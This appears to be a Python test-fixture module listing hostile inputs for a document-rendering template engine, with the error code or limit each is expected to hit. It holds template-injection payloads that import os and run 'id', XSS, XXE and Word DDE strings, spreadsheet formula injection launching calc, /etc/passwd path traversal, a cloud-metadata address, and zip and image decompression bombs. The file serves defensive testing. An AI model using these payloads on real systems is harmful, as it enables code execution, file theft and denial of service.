"""Templates and data that want out, or more than there is, and how each has to end."""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

from PIL import Image


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One of them.

    `ends` says of what it is refused and by which code, or by which limit of its process it is
    ended. Where it is empty a document is made, and `inert` is in its text as it was given.
    """

    name: str
    template: bytes
    data: bytes = b"{}"
    assets: Mapping[str, bytes] = field(default_factory=dict)
    format: str = "pdf"
    ends: tuple[str, ...] = ()
    #: Where it meets another limit first on a faster machine.
    or_ends: tuple[str, ...] = ()
    inert: str = ""


def _blocks(*blocks: dict[str, Any], **more: Any) -> bytes:
    return json.dumps({"septet": 1, "title": "A", "blocks": blocks, **more}).encode()


def _text(text: Any) -> bytes:
    return _blocks({"type": "paragraph", "text": text})


def _value(expression: str) -> bytes:
    return _text(f"{{{{ {expression} }}}}")


def _data(**values: Any) -> bytes:
    return json.dumps(values).encode()


def _nested(levels: int, block: dict[str, Any] | None = None) -> bytes:
    found = block or {"type": "paragraph", "text": "x"}
    for _ in range(levels):
        found = {"type": "repeat", "over": "many", "blocks": [found]}
    return _blocks(found)


def _table(over: str, *values: str, **more: Any) -> dict[str, Any]:
    columns = [{"title": f"C{at}", "value": value} for at, value in enumerate(values)]
    return {"type": "table", "over": over, "columns": columns, **more}


_MANY = _data(many=list(range(3_000)))
_IMAGE = _blocks({"type": "image", "asset": "a", "alt": "x"})


def _png(width: int, height: int, *more: bytes, filled: bool = True) -> bytes:
    """Return a picture of one color, packed as well as one can be."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + check

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    rows = zlib.compress(bytes((width * 3 + 1) * height), 9) if filled else b""
    texts = b"".join(chunk(b"zTXt", one) for one in more)
    return b"\x89PNG\r\n\x1a\n" + head + texts + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (30, 20), "red").save(out, kind)
    return out.getvalue()


def _bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", bytes(50_000_000))
    return out.getvalue()


def _deep(levels: int) -> bytes:
    return b'{"septet":1,"title":"A","blocks":' + b"[" * levels + b"]" * levels + b"}"


_EXPRESSIONS = {
    "class of a text": ("''.__class__", "document type"),
    "class of a list": ("[1].__class__.__base__", "document type"),
    "class of the data": ("data.__class__.__mro__", ""),
    "globals of a lambda": ("map([1], x => x.__globals__)", "document type"),
    "import": ("__import__('os')", "template function"),
    "import and call": ("__import__('os').system('id')", "template syntax"),
    "eval": ("eval('1+1')", "template function"),
    "open a file": ("open('/etc/passwd')", "template function"),
    "read a file": ("open('/etc/passwd').read()", "template syntax"),
    "a template engine's way out": (
        "cycler.__init__.__globals__.os.popen('id').read()",
        "template syntax",
    ),
    "settings": ("config.items()", "template syntax"),
    "call a value": ("(x => x)(1)", "template syntax"),
    "a format of Python": ("'{0.__class__}' | format", "template function"),
    "attributes": ("getattr(data, 'x')", "template function"),
    "assignment": ("x = 1", "template syntax"),
    "a statement": ("1; 2", "template syntax"),
    "padding": ("pad('a', 1000000000)", "document type"),
    "replacing again and again": (
        "replace(replace(replace(replace(a, 'a', a), 'a', a), 'a', a), 'a', a)",
        "document size",
    ),
    "joining": ("join(map(many, x => a + a + a))", "document size"),
    "map in map in map": (
        "count(map(many, x => count(map(many, y => count(map(many, z => z))))))",
        "limit time or document size",
    ),
    "sorting again and again": (
        "count(map(many, x => sort(many, y => 1 - y * 2 + x)))",
        "limit time",
    ),
    "a number of 10 to the 6,000": ("1e6000 * 1e6000", "template syntax"),
    "a number that grows": (" * ".join(["big"] * 190), "document overflow"),
    "a number too large to write": ("big", "document overflow"),
    "a division by zero": ("1 / zero", "document division"),
    "a sequence without end": ("range(1000000000)", "template function"),
    "parentheses": ("(" * 900 + "1" + ")" * 900, "template depth"),
    "operators": ("+".join(["1"] * 900), "template size"),
    "a unit that is a path": ("unit(1, '../../etc/passwd')", "document value"),
    "a pattern of dates": ("date('2024-01-01', '" + "y" * 900 + "')", "document value"),
    "a date that is none": ("date('2024-13-45')", "document value"),
}
_VALUES = _data(a="a" * 900, many=list(range(3_000)), big=10**40, zero=0)

#: Texts that mean something to a program on the way: they are text, in every format.
_TEXTS = {
    "markup of reportlab": '<img src="/etc/passwd"/><b>x</b><a href="file:///etc/passwd">y</a>',
    "a script": "<script>alert(1)</script><svg onload=alert(1)>",
    "an entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "the end of a table": "]]></w:t></w:r></w:p></w:tc></si></td></script>",
    "other template engines": "${7*7} #{7*7} <%= 7*7 %> {% import os %} {0.__class__}",
    "a field of Word": '{ INCLUDETEXT "/etc/passwd" } { DDEAUTO c:\\\\cmd.exe }',
    "operators of PDF": ") Tj ET Q q 1 0 0 1 0 0 cm /Im0 Do BT (",
}
_FORMULAS = {
    "a formula": "=1+1",
    "a command": "=cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("https://example.com/?"&A1,"x")',
    "a plus": "+1+1",
    "an at": "@SUM(1,1)",
    "a tab": "\t=1+1",
    "a minus": "-2+3",
}


def _of_expressions() -> Iterator[Attack]:
    for name, (expression, told) in _EXPRESSIONS.items():
        ends, _, or_ends = told.partition(" or ")
        yield Attack(
            name=name,
            template=_value(expression),
            data=_VALUES,
            ends=tuple(ends.split()),
            or_ends=tuple(or_ends.split()),
        )


def _of_texts() -> Iterator[Attack]:
    block = _table("[1]", "t")
    template = _blocks({"type": "paragraph", "text": "{{ t }}"}, block)
    for name, text in _TEXTS.items():
        for kind in ("pdf", "docx", "html", "xlsx"):
            yield Attack(
                name=f"{name} in {kind}",
                template=template,
                data=_data(t=text),
                format=kind,
                inert=text,
            )
    for name, text in _FORMULAS.items():
        for kind in ("csv", "xlsx"):
            yield Attack(
                name=f"{name} in {kind}",
                template=template,
                data=_data(t=text),
                format=kind,
                inert="'" + text if kind == "csv" else text,
            )


def _of_templates() -> Iterator[Attack]:
    refused = {
        "a template that is too deep to read": (_deep(200_000), "template json"),
        "blocks within blocks": (_nested(40), "template depth"),
        "no JSON": (b"\xff\xfe{", "template json"),
        "a text that is too long": (_text("x" * 30_000), "template size"),
        "a link that runs": (
            _text([{"text": "x", "link": "javascript:alert(1)"}]),
            "template link",
        ),
        "a link to a file": (_text([{"text": "x", "link": "file:///etc/passwd"}]), "template link"),
        "a partial within itself": (
            _blocks(partials={"a": {"blocks": [{"type": "include", "partial": "a"}]}}),
            "template partial",
        ),
        "partials that double": (
            _blocks(
                {"type": "include", "partial": "p40"},
                partials={
                    f"p{at}": {
                        "blocks": [{"type": "include", "partial": f"p{at - 1}"}] * 2 if at else []
                    }
                    for at in range(41)
                },
            ),
            "template size",
        ),
        "too many columns": (_blocks(_table("many", *["1"] * 101)), "template size"),
        "cells over cells": (
            _blocks(
                {
                    "type": "table",
                    "columns": [{"title": "A"}, {"title": "B"}],
                    "rows": [[{"text": "x", "down": 900}, "y"], [{"text": "x", "across": 2}]],
                }
            ),
            "template cells",
        ),
        "paper without room": (
            _blocks(page={"size": [20, 20], "margins": [10, 10, 10, 10]}),
            "template range",
        ),
        "a zone that is a path": (_blocks(timezone="../../../etc/passwd"), "template locale"),
        "a locale that is a path": (_blocks(locale="../../etc/passwd"), "template locale"),
        "a color that is a script": (
            _blocks(theme={"color": "red;}</style><script>"}),
            "template color",
        ),
    }
    for name, (template, ends) in refused.items():
        yield Attack(name=name, template=template, ends=tuple(ends.split()))


def _of_loops() -> Iterator[Attack]:
    time = ("limit", "time")
    yield Attack(name="loops in loops", template=_nested(2), data=_MANY, ends=time)
    yield Attack(
        name="loops around nothing",
        template=_nested(3, {"type": "when", "test": "false", "blocks": []}),
        data=_MANY,
        ends=("document", "size"),
    )
    table = _table("many", "row", *["1"] * 9)
    yield Attack(
        name="a table for each row in columns",
        template=_blocks({"type": "columns", "columns": [{"blocks": [table]}] * 6}),
        data=_data(many=list(range(30_000))),
        ends=time,
    )
    yield Attack(
        name="a chart of a million points",
        template=_blocks(
            {
                "type": "chart",
                "over": "many",
                "label": "'x'",
                "series": [{"name": "x", "value": "item"}],
                "alt": "x",
            }
        ),
        data=_MANY,
        ends=("document", "size"),
    )
    yield Attack(
        name="a document that is longer than one may be",
        template=_nested(1, {"type": "paragraph", "text": "{{ big }}"}),
        data=_data(many=list(range(3_000)), big="x" * 9_000),
        format="html",
        ends=("limit", "room"),
    )


def _of_data() -> Iterator[Attack]:
    shown = _text("{{ a }}")
    yield Attack(
        name="data that is too deep",
        template=shown,
        data=b'{"a":' + b"[" * 200_000,
        ends=("data", "json"),
    )
    yield Attack(
        name="a number of a million digits",
        template=shown,
        data=b'{"a":' + b"9" * 1_000_000 + b"}",
        ends=("data", "json"),
    )
    yield Attack(name="data that is a list", template=shown, data=b"[]", ends=("data", "type"))
    yield Attack(
        name="a cell that no sheet holds",
        template=_blocks(_table("[1]", "a")),
        data=_data(a="x" * 40_000),
        format="xlsx",
        ends=("document", "size"),
    )
    yield Attack(
        name="characters that XML cannot hold",
        template=shown,
        data=b'{"a":"x\\u0000\\u0008\\ud800y"}',
        format="docx",
        inert="x\ufffd\ufffd\ufffdy",
    )
    yield Attack(
        name="characters of no font", template=shown, data=_data(a="𓀀🂡🦖x\U000e0041"), inert="x"
    )
    yield Attack(
        name="text that turns around",
        template=shown,
        data=_data(a="abc\u202egnp.exe\u202c"),
        format="docx",
        inert="abc\u202egnp.exe\u202c",
    )
    yield Attack(
        name="a link that data makes run",
        template=_text([{"text": "here", "link": "{{ a }}"}]),
        data=_data(a="javascript:alert(1)"),
        format="html",
        inert="here",
    )
    yield Attack(
        name="a barcode without end",
        template=_blocks({"type": "barcode", "symbology": "qr", "value": "{{ a }}"}),
        data=_data(a="x" * 5_000),
        ends=("document", "barcode"),
    )
    yield Attack(
        name="a word wider than the page",
        template=_blocks(_table("[1]", "a")),
        data=_data(a="x" * 20_000),
        inert="xxxx",
    )
    yield Attack(
        name="a hundred columns on a small page",
        template=_blocks(_table("[1]", *["1"] * 100), page={"size": "A6"}),
        inert="1",
    )


def _of_pictures() -> Iterator[Attack]:
    image = ("document", "image")
    pictures = {
        "a picture of 900 megapixels": (_png(30_000, 30_000, filled=False), image),
        "a picture that claims to be wide": (_png(2_000_000_000, 1, filled=False), image),
        "a picture of a bomb in its text": (
            _png(9, 9, b"a\0\0" + zlib.compress(bytes(80_000_000), 9)),
            image,
        ),
        "half a picture": (_picture("PNG")[:60], image),
        "nothing": (b"", image),
        "an SVG with an entity": (_TEXTS["an entity"].encode() + b"<svg/>", image),
        "a bomb of a zip": (_bomb(), image),
        "a program of PostScript": (b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file", image),
        "a GIF": (_picture("GIF"), image),
        "a TIFF": (_picture("TIFF"), image),
        "a PDF": (b"%PDF-1.7 1 0 obj", image),
    }
    for name, (content, ends) in pictures.items():
        yield Attack(name=name, template=_IMAGE, assets={"a": content}, ends=ends)
    for name, asset in (
        ("a path for a picture", "../../../etc/passwd"),
        ("an address for a picture", "https://169.254.169.254/"),
    ):
        yield Attack(
            name=name,
            template=_blocks({"type": "image", "asset": asset, "alt": "x"}),
            ends=("document", "asset"),
        )
    data = _blocks({"type": "image", "data": "a", "alt": "x"})
    yield Attack(
        name="a picture that is no base64",
        template=data,
        data=_data(a="<svg>"),
        ends=("document", "value"),
    )
    large = {str(at): _png(5_500, 5_500 + at) for at in range(4)}
    yield Attack(
        name="pictures that fill the memory",
        template=_blocks(*({"type": "image", "asset": name, "alt": "x"} for name in large)),
        assets=large,
        ends=("limit", "memory"),
    )


ATTACKS = [
    *_of_expressions(),
    *_of_texts(),
    *_of_templates(),
    *_of_loops(),
    *_of_data(),
    *_of_pictures(),
]
